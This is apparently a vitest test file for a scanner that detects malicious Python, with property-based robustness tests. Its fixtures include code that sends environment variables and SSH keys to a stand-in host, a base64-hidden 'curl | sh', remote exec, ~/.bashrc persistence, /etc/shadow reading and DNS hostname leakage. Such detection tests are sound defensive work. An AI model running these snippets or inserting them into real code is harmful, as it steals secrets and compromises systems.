import fc from 'fast-check';
import { beforeAll, expect, test } from 'vitest';
import { longestCut } from '../bounds.ts';
import type { ScanFinding } from '../finding.ts';
import { modulesToFollow } from '../modules/follow.ts';
import { followInOrder } from '../modules/links.ts';
import { outlookOf, prepare, scanFile } from '../scan-file.ts';
import type { SourceFile } from '../source-file.ts';
import { unescapeText } from './strings.ts';

beforeAll(async () => {
  await prepare(new Set(['python', 'shell', 'javascript']));
});

function python(path: string, text: string): SourceFile {
  return { path, language: 'python', text, bytes: new TextEncoder().encode(text) };
}
const scanAll = (text: string, path = 'a.py') =>
  scanFile(python(path, text), { indicators: false });
/** What files show together, the imported before those that import them. */
function followed(texts: ReadonlyMap<string, string>) {
  const files = new Map([...texts].map(([path, text]) => [path, python(path, text)]));
  const { paths } = modulesToFollow([...files.values()].map(outlookOf));
  const findings: ScanFinding[] = [];
  followInOrder(paths, (path, links) => {
    const file = files.get(path);
    if (file) findings.push(...scanFile(file, { indicators: false, links }).findings);
  });
  return { paths, findings };
}
const scan = (text: string, path?: string) => scanAll(text, path).findings;
const worst = (text: string) =>
  scan(text)
    .filter(({ severity }) => severity !== 'info')
    .map(({ rule, severity, line }) => `${rule} ${severity} ${line}`);

test.each([
  [
    'a socket',
    'import socket, os\ns = socket.socket()\ns.connect(("203.0.113.9", 443))\ns.send(str(dict(os.environ)).encode())',
    ['exfiltration critical 4'],
  ],
  [
    'a path of pieces',
    'from pathlib import Path\nimport httpx\nkey = (Path.home() / ".ssh" / "id_rsa").read_text()\nhttpx.post("http://203.0.113.9", content=key)',
    ['exfiltration critical 4'],
  ],
  [
    'an import by name',
    'import base64\nm = __import__("o" + "s")\nm.system(base64.b64decode("Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkvYSB8IHNo").decode())',
    ['hidden-call warn 2', 'remote-code critical 3', 'remote-code critical 3'],
  ],
  [
    'compatible letters',
    'from urllib.request import urlopen\nｅｘｅｃ(urlopen("http://203.0.113.9/a").read())',
    ['remote-code critical 2'],
  ],
  [
    'a command as a list',
    'import subprocess\nsubprocess.run(["bash", "-c", "curl http://203.0.113.9/a | sh"])',
    ['remote-code critical 2'],
  ],
  [
    'a file that starts by itself',
    'import os, requests\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write(requests.get("http://203.0.113.9/a").text)',
    ['persistence critical 3'],
  ],
  [
    'a variable of its owner',
    'import os, requests\nrequests.post("https://api.tavily.com/search", json={"key": os.getenv("TAVILY_API_KEY")})',
    [],
  ],
  [
    'the own name, looked up',
    'import socket\nname = socket.gethostname()\nprint(socket.gethostbyname_ex(name))\ndef find(host):\n    return socket.getaddrinfo(host, None)\nfind(name)\nfind(socket.getfqdn())',
    [],
  ],
  [
    'the own name in front of a domain',
    'import socket\nsocket.gethostbyname(socket.gethostname() + ".a.example.com")\ndomain = read()\nsocket.gethostbyname(f"{socket.gethostname()}{domain}")\ndef find(host):\n    return socket.getaddrinfo(f"{host}.a.example.com", None)\nfind(socket.gethostname())\nsocket.gethostbyname(socket.gethostname().encode().hex())',
    [
      'exfiltration critical 2',
      'exfiltration critical 4',
      'exfiltration critical 6',
      'exfiltration critical 8',
    ],
  ],
  [
    'a name that is taken',
    'def open(path):\n    return "x"\nimport requests\nrequests.post("http://203.0.113.9", data=open("/etc/shadow"))',
    [],
  ],
])('%s', (_, text, found) => {
  expect(worst(text).sort()).toEqual([...found].sort());
});

test('data is followed from file to file', () => {
  const files = new Map([
    ['pkg/__init__.py', ''],
    [
      'pkg/keys.py',
      'import os\ndef read(name="id_rsa"):\n    return open(os.path.expanduser(f"~/.ssh/{name}")).read()\n',
    ],
    ['pkg/net.py', 'import requests\ndef send(body, *, to):\n    requests.post(to, data=body)\n'],
    [
      'main.py',
      'from pkg.keys import read\nfrom pkg import net\nnet.send(read(), to="http://203.0.113.9/in")\n',
    ],
  ]);
  const { findings: found } = followed(files);
  expect(found.map(({ rule, severity, file, line }) => [rule, severity, file, line])).toEqual([
    ['exfiltration', 'critical', 'pkg/net.py', 3],
  ]);
  expect(found[0]?.path?.map(({ file }) => file)).toEqual(
    expect.arrayContaining(['pkg/keys.py', 'main.py', 'pkg/net.py']),
  );
});

test('a program that is Python by its first line alone is followed into its modules', () => {
  const files = new Map([
    [
      'bin/run',
      '#!/usr/bin/env python3\nimport os\nfrom net import send\nsend(dict(os.environ))\n',
    ],
    ['bin/net.py', 'import requests\ndef send(body):\n    requests.post(to, json=body)\n'],
  ]);
  const { paths, findings: found } = followed(files);
  expect(paths).toEqual(['bin/net.py', 'bin/run']);
  expect(found.map(({ rule, file, line }) => [rule, file, line])).toEqual([
    ['exfiltration', 'bin/net.py', 3],
  ]);
});

test('a place that one file names and another writes to is followed', () => {
  const files = new Map([
    ['places.py', 'import os\nRC = os.path.expanduser("~/.bashrc")\n'],
    [
      'main.py',
      'import requests\nfrom places import RC\nwith open(RC, "a") as f:\n    f.write(requests.get("http://203.0.113.9/a").text)\n',
    ],
  ]);
  const { findings: found } = followed(files);
  expect(found.map(({ rule, file }) => [rule, file])).toEqual([['persistence', 'main.py']]);
});

test('of what is no Python, words say whether it would run other code', () => {
  const notes = (text: string) =>
    scan(`import os, requests\nrequests.post(u, data=os.getenv("A"))\n${text}`)
      .filter(({ rule }) => rule === 'unparseable-code')
      .map(({ message, severity, args }) => [message, severity, args.found]);
  expect(notes('x = 1')).toEqual([]);
  expect(notes('x = = 1\nsubprocess.run(a)')).toEqual([['syntax', 'info', undefined]]);
  expect(notes('x = = exec(os.popen(a), model.eval(b))')).toEqual([
    ['words', 'warn', ['exec', 'os.popen']],
  ]);
  expect(notes(`${'('.repeat(300)}eval(a)`)).toEqual([['words', 'warn', ['eval']]]);
  expect(notes(`${'x = 1\n'.repeat(110_000)}import subprocess`)).toEqual([
    ['words', 'warn', ['subprocess']],
  ]);
});

test.each([
  ['sums', `x = ${'a + '.repeat(20_000)}b`],
  ['brackets', `x = ${'('.repeat(5000)}1${')'.repeat(5000)}`],
  ['calls', `x = ${'f('.repeat(3000)}1${')'.repeat(3000)}`],
  ['blocks', Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}if a:`).join('\n')],
  ['members', `x = a${'.b'.repeat(20_000)}`],
  ['quotes', `x = ${'"""'.repeat(3001)}`],
])('nested %s are read to an end', (_, text) => {
  expect(() =>
    scan(`import os, requests\nrequests.post(u, json=dict(os.environ))\n${text}`),
  ).not.toThrow();
});

test('what continues for thousands of lines hides nothing', () => {
  const thief = 'import os, requests\nrequests.post(u, json=dict(os.environ))\n';
  const rules = (text: string) => scan(text).map(({ rule }) => rule);
  expect(rules(thief + '\\\n'.repeat(20_000))).toEqual(['exfiltration']);
  expect(rules(thief.replace('json=', 'json=\\\n'))).toEqual(['exfiltration']);
});

test('of a long text the beginning is read, and the rest said to be unread', () => {
  const long = `import os, requests\nrequests.post(u, json=dict(os.environ))\n${'x = 1\n'.repeat(110_000)}`;
  const { findings, facts } = scanAll(long);
  expect(findings.map(({ rule }) => rule)).toEqual(['exfiltration', 'unparseable-code']);
  expect(longestCut(facts)).toBe(String(long.length));
});

test('any text is read to an end', () => {
  const piece = fc.constantFrom(
    ...'def f(a=1): |class A(B):|    |\n|x = |import os|from . import *|[i for i in |lambda *a, **k: |f"{x}|os.environ|requests.post(|exec(|)|]|}|{|"|\'|"""|#|\\|for a, b in |with open(p) as f:|match x:|case _:|@d|yield |global x|:=| % | + '.split(
      '|',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => {
      scan(`import os, requests\nrequests.post(u, json=os.environ)\n${pieces.join('')}`);
    }),
    { numRuns: 300 },
  );
});

test('escapes stand for what Python says', () => {
  expect(unescapeText('a\\x41\\u0042\\103\\n\\\\\\q\\\nb')).toBe('aABC\n\\\\qb');
});
